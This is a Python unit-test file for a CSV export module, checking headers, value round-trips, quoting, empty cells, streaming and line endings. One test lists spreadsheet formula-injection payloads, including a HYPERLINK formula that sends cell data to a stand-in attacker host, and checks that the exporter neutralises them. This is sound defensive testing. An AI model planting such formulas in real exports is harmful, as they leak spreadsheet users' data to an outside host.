"""Unit tests of the CSV renderer: parse the output back with Python's csv module."""

import csv
import io
from decimal import Decimal

import pytest

from core.applications import csv_export
from core.applications.csv_export import csv_cell, iter_csv

COLUMNS = ["id", "personal.first_name", "personal.last_name", "application.enrolled", "payment.amount"]


def dotted_value(record, column: str):
    """``record["a"]["b"]`` for column ``a.b``; None when any level is missing."""
    value = record
    for part in column.split("."):
        if not isinstance(value, dict):
            return None
        value = value.get(part)
    return value


def render_csv(records, columns) -> str:
    """Nested records as a whole CSV document through the product's row writer (`iter_csv`)."""
    return "".join(iter_csv(([dotted_value(record, column) for column in columns] for record in records), columns))


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def record(first_name="Amina", last_name="Okello", enrolled=False, amount=Decimal("1500.00"), id_="app_1"):
    return {
        "id": id_,
        "personal": {"first_name": first_name, "last_name": last_name},
        "application": {"enrolled": enrolled},
        "payment": {"amount": amount},
    }


def test_header_is_the_dotted_column_names_in_order():
    rows = parse(render_csv([], COLUMNS))
    assert rows == [COLUMNS]


def test_values_round_trip_in_column_order():
    text = render_csv([record(), record(first_name="Zoë", enrolled=True, amount=0, id_="app_2")], COLUMNS)
    assert parse(text)[1:] == [
        ["app_1", "Amina", "Okello", "false", "1500.00"],
        ["app_2", "Zoë", "Okello", "true", "0"],
    ]


@pytest.mark.parametrize(
    "payload",
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1)", "+1", "-1", "\tindent", "\r=1+1", "=1+1"],
)
def test_formula_payloads_are_prefixed_with_a_quote(payload):
    rows = parse(render_csv([record(first_name=payload)], COLUMNS))
    assert rows[1][1] == "'" + payload


@pytest.mark.parametrize("value, expected", [(-1, "-1"), (Decimal("-12.50"), "-12.50"), (2.5, "2.5"), (7, "7")])
def test_numbers_stay_numbers_even_when_negative(value, expected):
    rows = parse(render_csv([record(amount=value)], COLUMNS))
    assert rows[1][4] == expected


def test_text_that_only_contains_a_trigger_later_is_left_alone():
    rows = parse(render_csv([record(first_name="Anne-Marie", last_name="a=b")], COLUMNS))
    assert rows[1][1:3] == ["Anne-Marie", "a=b"]


def test_quotes_commas_and_newlines_survive():
    name = 'O"Brien, Jr.\nsecond line'
    rows = parse(render_csv([record(last_name=name)], COLUMNS))
    assert rows[1][2] == name


def test_missing_values_and_levels_are_empty_cells():
    rows = parse(render_csv([{"id": "app_9", "personal": None}], COLUMNS))
    assert rows[1] == ["app_9", "", "", "", ""]


def test_cell_rules():
    assert csv_cell(None) == ""
    assert csv_cell(True) == "true"
    assert csv_cell(False) == "false"
    assert csv_cell(Decimal("-3")) == Decimal("-3")
    assert csv_cell("@x") == "'@x"
    assert csv_cell("x@y") == "x@y"


def test_stream_is_lazy_and_chunked(monkeypatch):
    monkeypatch.setattr(csv_export, "STREAM_CHUNK_SIZE", 100)
    produced = []

    def rows():
        for number in range(50):
            produced.append(number)
            yield [f"app_{number}", "A", "B", False, number]

    stream = iter_csv(rows(), COLUMNS)
    first = next(stream)
    assert len(produced) < 50, "the first chunk must be yielded before every row is read"
    assert first.startswith(",".join(COLUMNS))
    text = first + "".join(stream)
    parsed = parse(text)
    assert len(parsed) == 51
    assert parsed[50] == ["app_49", "A", "B", "false", "49"]


def test_lines_end_with_lf_and_embedded_line_breaks_are_quoted():
    text = render_csv([record(last_name="a\rb"), record(last_name="c\r\nd")], COLUMNS)
    assert text.count("\n") == 4
    assert '"a\rb"' in text and '"c\r\nd"' in text
    assert [row[2] for row in parse(text)[1:]] == ["a\rb", "c\r\nd"]
